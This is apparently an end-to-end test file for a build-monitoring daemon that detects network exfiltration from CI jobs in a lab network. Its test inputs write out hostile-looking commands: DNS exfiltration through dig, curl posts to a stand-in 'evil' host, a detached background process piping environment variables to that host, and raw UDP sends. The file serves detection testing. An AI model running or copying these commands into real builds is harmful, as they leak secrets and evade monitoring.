using BuildSentry.Testing.Lab;
using static BuildSentry.EndToEnd.ScenarioTests;

namespace BuildSentry.EndToEnd;

/// <summary>
/// The other ways out that the daemon must catch, each with the real tool a build would use. The lab
/// link has 20 ms of delay, an ordinary distance to the internet: over a sub-millisecond link a DNS
/// socket can close before a user-space sensor looks it up (docs/operations.md, "The iptables chain"), and these tests are
/// about detection, not that race.
/// </summary>
[Collection(LabCollection.Name)]
public sealed class ViolationTests(NetworkLabFixture fixture)
{
    private NetworkLab Lab => fixture.Lab;

    [Fact]
    public async Task DNS_exfiltration_through_dig_is_alerted_with_the_name_and_the_dig_process()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
        var name = $"mfrggzdfmztwq2lk{Random.Shared.Next(1000, 9999)}.{NetworkLab.ExfilDomain}";
        using var job = BuildJob.Start(Lab, $"dig +short +tries=1 {name} > /dev/null; echo done");
        await job.WaitAsync();

        var alert = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.dns" && Names(a).Contains(name));
        Assert.Equal(job.JobId, Str(alert, "job"));
        Assert.EndsWith("/dig", Str(alert, "exe"));
        Assert.Equal("53", Str(alert, "dport"));
        // On the eBPF sensor (the default) the query's owner came from the kernel's socket-owner map, not from /proc.
        var status = await daemon.CliAsync("status", "--json");
        var sensors = System.Text.Json.JsonDocument.Parse(status.StandardOutput).RootElement.GetProperty("sensors");
        Assert.Equal("ebpf", sensors.GetProperty("processSensor").GetString());
        Assert.True(sensors.GetProperty("flowOwnersFromKernel").GetInt64() >= 1, sensors.ToString());
    }

    [Fact]
    public async Task A_DNS_query_from_a_socket_closed_at_once_on_a_link_without_delay_is_judged_for_its_job_by_its_cgroup()
    {
        // The query is sent and its socket closed in the same instant: no user-space lookup can find it.
        // The kernel's record of the job's cgroup (an NFLOG rule per job) still names the job.
        await Lab.SetDelayAsync(TimeSpan.Zero);
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
        var name = $"closed{Random.Shared.Next(1000, 9999)}.{NetworkLab.ExfilDomain}";
        using var job = BuildJob.Start(Lab, $$"""
            sleep 0.5
            python3 - <<'PY'
            import socket
            resolver = next(l.split()[1] for l in open("/etc/resolv.conf") if l.startswith("nameserver"))
            query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(bytes([len(p)]) + p.encode() for p in "{{name}}".split(".")) + b"\x00\x00\x01\x00\x01"
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(query, (resolver, 53)); s.close()
            PY
            echo done
            """);
        var result = await job.WaitAsync();
        Assert.True(result.StandardOutput.Contains("done", StringComparison.Ordinal), $"exit {result.ExitCode}: {result.StandardError}");

        var alert = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.dns" && Names(a).Contains(name));
        Assert.Equal(job.JobId, Str(alert, "job"));
        // Mostly the socket is gone before the capture thread looks and only the kernel's record names the job. Now
        // and then the lookup wins the race (the capture thread runs on the other core while python is between its
        // sendto and its close) and names the python process: the job is this one either way.
        if (!Str(alert, "reason").Contains("kernel matched the socket to the job's cgroup", StringComparison.Ordinal))
        {
            Assert.Contains("python3", Str(alert, "exe"), StringComparison.Ordinal);
        }

        // The kernel's record may come after the alert (the owner was named otherwise): the capture reads it at the
        // next frame, or once its read times out with no frame (250 ms).
        var status = await daemon.CliAsync("status", "--json");
        var sensors = System.Text.Json.JsonDocument.Parse(status.StandardOutput).RootElement.GetProperty("sensors");
        for (var i = 0; i < 20 && sensors.GetProperty("kernelRecords").GetInt64() == 0; i++)
        {
            await Task.Delay(100);
            status = await daemon.CliAsync("status", "--json");
            sensors = System.Text.Json.JsonDocument.Parse(status.StandardOutput).RootElement.GetProperty("sensors");
        }

        Assert.Contains("\"kernelAttribution\":\"on\"", status.StandardOutput.Replace(" ", "", StringComparison.Ordinal));
        Assert.True(sensors.GetProperty("kernelRecords").GetInt64() > 0, "the kernel recorded the job's flows: " + sensors.ToString() + Str(alert, "reason"));
        // The job was moved into its cgroup, and the move was timed; late exec reads are counted (any number).
        Assert.True(sensors.GetProperty("cgroupMoves").GetInt64() >= 1, sensors.ToString());
        Assert.True(sensors.GetProperty("cgroupLongestMoveMs").GetDouble() > 0, sensors.ToString());
        Assert.InRange(sensors.GetProperty("cgroupMovesSlow").GetInt64(), 0, sensors.GetProperty("cgroupMoves").GetInt64());
        Assert.True(sensors.GetProperty("processExecsUnread").GetInt64() >= 0, sensors.ToString());
        // Root, as the unit runs it: the reader got nice -10 and the shortest slice, so no warning 12 either.
        Assert.Equal("niceAndShortSlice", sensors.GetProperty("processReaderScheduling").GetString());
        Assert.Equal("nice", sensors.GetProperty("captureScheduling").GetString());
        var memory = System.Text.Json.JsonDocument.Parse(status.StandardOutput).RootElement.GetProperty("memory");
        Assert.InRange(memory.GetProperty("rssKb").GetInt64(), 10_000, memory.GetProperty("peakRssKb").GetInt64());
        Assert.InRange(memory.GetProperty("managedHeapKb").GetInt64(), 1, memory.GetProperty("rssKb").GetInt64());
    }

    [Fact]
    public async Task A_connection_to_an_IP_literal_of_an_unknown_host_is_alerted_without_any_name()
    {
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
        using var job = BuildJob.Start(Lab, $"curl -s -m 5 http://{Lab.Evil.IPv4}:{NetworkLab.SinkPort}/ -d x > /dev/null; echo done");
        await job.WaitAsync();

        var alert = await daemon.WaitForAlertAsync(a => Kind(a) == "egress.connection" && Str(a, "dst") == Lab.Evil.IPv4.ToString());
        Assert.Equal(job.JobId, Str(alert, "job"));
        Assert.Empty(Names(alert));
        Assert.Equal(NetworkLab.SinkPort.ToString(System.Globalization.CultureInfo.InvariantCulture), Str(alert, "dport"));
    }

    [Fact]
    public async Task A_daemonized_descendant_that_exfiltrates_after_its_parent_exited_gets_the_job_killed()
    {
        // 20 ms of link delay, as in the seed scenario: the payload follows the SYN by one round trip.
        await Lab.SetDelayAsync(TimeSpan.FromMilliseconds(20));
        var sinkBefore = SinkBytes();
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("kill"));
        using var job = BuildJob.Start(Lab, $$"""
            ( setsid sh -c 'sleep 1; env | curl -s -m 5 --data-binary @- http://{{Lab.Evil.IPv4}}:{{NetworkLab.SinkPort}}/' & )
            echo parent leaving
            """);
        var result = await job.WaitAsync();
        Assert.Equal(0, result.ExitCode);

        var alert = await daemon.WaitForAlertAsync(a => Str(a, "job") == job.JobId && Str(a, "action") == "killed");
        Assert.Equal(Lab.Evil.IPv4.ToString(), Str(alert, "dst"));
        Assert.EndsWith("/curl", Str(alert, "exe"));
        await Task.Delay(200);
        Assert.Empty(job.Survivors());
        var report = await ReportAsync(daemon, job);
        Assert.True(sinkBefore == SinkBytes(), $"payload reached the sink: {SinkBytes() - sinkBefore} bytes; report kill {report.GetProperty("kill")}");
    }

    [Fact]
    public async Task A_job_that_calls_job_end_on_itself_is_refused_and_alerted()
    {
        await Lab.SetDelayAsync(TimeSpan.Zero);
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
        using var job = BuildJob.Start(Lab, $"{DaemonProcess.Binary} job end --socket {daemon.SocketPath}; echo \"exit=$?\"; sleep 0.2");
        var result = await job.WaitAsync();

        Assert.Contains("exit=1", result.StandardOutput);
        Assert.Contains("may not end a job", result.StandardError);
        var alert = await daemon.WaitForAlertAsync(a => Kind(a) == "tamper.control-refused");
        Assert.Equal("refused", Str(alert, "action"));
        Assert.Contains(job.JobId, Str(alert, "reason"));
        var report = await ReportAsync(daemon, job);
        Assert.Equal("every process of the job exited", report.GetProperty("endReason").GetString());
    }

    [Fact]
    public async Task Every_one_shot_UDP_datagram_to_an_unknown_address_is_alerted_with_its_job_and_process()
    {
        // The sender exits the instant its datagram is out: only the kernel's record of the sendmsg can name it.
        await Lab.SetDelayAsync(TimeSpan.Zero);
        await using var daemon = await DaemonProcess.StartAsync(new DaemonSetup("audit"));
        const int trials = 20;
        var jobs = new List<BuildJob>();
        for (var i = 0; i < trials; i++)
        {
            jobs.Add(BuildJob.Start(Lab, $"""
                exec python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("{Lab.Evil.IPv4}", {40_000 + i}))'
                """));
        }

        foreach (var job in jobs)
        {
            await job.WaitAsync();
        }

        foreach (var job in jobs)
        {
            var alert = await daemon.WaitForAlertAsync(a => Str(a, "job") == job.JobId && Kind(a) == "egress.connection");
            Assert.Equal("udp", Str(alert, "proto"));
            Assert.Contains("python3", Str(alert, "exe"), StringComparison.Ordinal);
            job.Dispose();
        }
    }

    /// <summary>Bytes the sink port of evil.test has received, summed over its log.</summary>
    private static long SinkBytes()
    {
        var log = Path.Combine(NetworkLab.StateDirectory, "recv", "evil.test.log");
        return File.Exists(log)
            ? File.ReadAllLines(log).Select(l => l.Split(' ')).Where(f => f.Length > 3 && f[1] == "sink").Sum(f => long.Parse(f[3], System.Globalization.CultureInfo.InvariantCulture))
            : 0;
    }
}
